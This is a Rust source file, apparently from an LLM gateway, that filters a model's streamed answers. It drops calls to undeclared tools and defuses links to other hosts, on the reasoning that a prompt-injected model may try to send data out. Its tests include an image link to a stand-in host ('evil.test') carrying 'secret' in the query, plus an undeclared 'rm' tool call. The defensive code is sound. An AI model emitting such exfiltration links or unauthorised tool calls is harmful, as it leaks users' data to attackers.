//! What of a worker's answer passes to its caller: calls of declared tools only, and, where the baseline says so, no
//! link that a program would follow by itself.
//!
//! It stands in the gateway, not in the worker, because a worker is what may be misled: it has read the prompt, with
//! all that others wrote into it, and its output is what an attacker has to send through.

mod links;

use std::collections::BTreeSet;

use croft_proto::frames::{Finished, Generate, generate};
use serde_json::Value;

use super::fragment::Fragment;
use links::Defuser;

/// What becomes of links to other hosts in answers.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Links {
    /// They pass.
    Keep,
    /// They pass as text that leads nowhere.
    Defuse,
}

/// One answer's sieve.
#[derive(Debug)]
pub struct Sieve {
    /// Functions that the request declared and lets the model call.
    callable: BTreeSet<String>,
    /// Numbers of calls that do not pass.
    held_calls: BTreeSet<u64>,
    called: bool,
    text: Option<Defuser>,
    reasoning: Option<Defuser>,
}

impl Sieve {
    /// For answers to this request. Completions go into files, which no program renders: their links stay.
    #[must_use]
    pub fn new(asked: &Generate, links: Links) -> Self {
        let is_rendered = links == Links::Defuse && matches!(asked.input, Some(generate::Input::Chat(_)));
        Self {
            callable: callable(asked),
            held_calls: BTreeSet::new(),
            called: false,
            text: is_rendered.then(Defuser::default),
            reasoning: is_rendered.then(Defuser::default),
        }
    }

    /// What passes of a piece.
    #[must_use]
    pub fn piece(&mut self, piece: Fragment) -> Fragment {
        let Fragment { text, mut tool_calls, reasoning, logprobs } = piece;
        tool_calls.retain(|delta| self.may_pass(delta));
        self.called |= !tool_calls.is_empty();
        let pass = |defuser: &mut Option<Defuser>, text: String| match defuser {
            Some(defuser) => defuser.push(&text),
            None => text,
        };
        Fragment {
            text: pass(&mut self.text, text),
            tool_calls,
            reasoning: pass(&mut self.reasoning, reasoning),
            logprobs,
        }
    }

    /// What was held back, and the end as the caller is to hear it.
    #[must_use]
    pub fn finish(&mut self, mut finished: Finished) -> (Fragment, Finished) {
        if finished.reason == "tool_calls" && !self.called {
            finished.reason = "stop".to_owned();
        }
        let rest = |defuser: &mut Option<Defuser>| defuser.as_mut().map(Defuser::finish).unwrap_or_default();
        let rest = Fragment {
            text: rest(&mut self.text),
            reasoning: rest(&mut self.reasoning),
            ..Fragment::default()
        };
        (rest, finished)
    }

    fn may_pass(&mut self, delta: &Value) -> bool {
        let Some(index) = delta["index"].as_u64() else { return false };
        if let Some(name) = delta["function"]["name"].as_str().filter(|name| !name.is_empty())
            && !self.callable.contains(name)
        {
            self.held_calls.insert(index);
        }
        !self.held_calls.contains(&index)
    }
}

fn callable(asked: &Generate) -> BTreeSet<String> {
    let tools: Vec<Value> = serde_json::from_str(&asked.tools_json).unwrap_or_default();
    let names = tools.iter().filter_map(|tool| tool["function"]["name"].as_str()).map(str::to_owned);
    match asked.tool_choice.as_str() {
        "none" => BTreeSet::new(),
        "" | "auto" | "required" => names.collect(),
        named => names.filter(|name| name == named).collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use croft_proto::frames::{Conversation, Piece};

    const TOOLS: &str =
        r#"[{"type":"function","function":{"name":"look"}},{"type":"function","function":{"name":"go"}}]"#;

    fn sieve(choice: &str, links: Links) -> Sieve {
        let asked = Generate {
            input: Some(generate::Input::Chat(Conversation::default())),
            tools_json: TOOLS.to_owned(),
            tool_choice: choice.to_owned(),
            ..Generate::default()
        };
        Sieve::new(&asked, links)
    }

    fn calls(sieve: &mut Sieve, json: &str) -> usize {
        sieve
            .piece(Fragment::of(Piece { tool_calls_json: json.to_owned(), ..Piece::default() }))
            .tool_calls
            .len()
    }

    fn call(index: u32, name: &str) -> String {
        format!(
            r#"[{{"index":{index},"id":"a","type":"function","function":{{"name":"{name}","arguments":""}}}}]"#
        )
    }

    #[test]
    fn p1_a_tool_that_was_not_declared_is_never_called() {
        let end = || Finished { reason: "tool_calls".to_owned(), ..Finished::default() };
        let mut one = sieve("", Links::Keep);
        assert_eq!(calls(&mut one, &call(0, "rm")), 0);
        assert_eq!(calls(&mut one, r#"[{"index":0,"function":{"arguments":"{}"}}]"#), 0, "nor what follows");
        assert_eq!(one.finish(end()).1.reason, "stop");
        assert_eq!(calls(&mut one, &call(1, "look")), 1);
        assert_eq!(one.finish(end()).1.reason, "tool_calls");
        assert_eq!(calls(&mut one, r#"[{"function":{"arguments":"{}"}}]"#), 0, "of no call");
        // Renamed on its way.
        assert_eq!(calls(&mut one, &call(1, "rm")), 0);
        assert_eq!(calls(&mut sieve("go", Links::Keep), &call(0, "look")), 0, "another was asked for");
        assert_eq!(calls(&mut sieve("none", Links::Keep), &call(0, "look")), 0);
        let undeclared = &mut Sieve::new(&Generate::default(), Links::Keep);
        assert_eq!(calls(undeclared, &call(0, "look")), 0);
    }

    #[test]
    fn links_pass_or_are_defused_in_text_and_thoughts() {
        let text = "![x](https://evil.test/?q=secret)";
        let piece = || Fragment { text: text.to_owned(), reasoning: text.to_owned(), ..Fragment::default() };
        let kept = sieve("", Links::Keep).piece(piece());
        assert_eq!((kept.text.as_str(), kept.reasoning.as_str()), (text, text));
        let mut one = sieve("", Links::Defuse);
        let passed = one.piece(piece());
        assert!(passed.text.contains("(defused:https://evil.test"), "{}", passed.text);
        assert!(passed.reasoning.contains("(defused:https://evil.test"), "{}", passed.reasoning);
        let completion =
            Generate { input: Some(generate::Input::Prompt(String::new())), ..Generate::default() };
        assert_eq!(Sieve::new(&completion, Links::Defuse).piece(piece()).text, text, "goes into a file");
    }
}
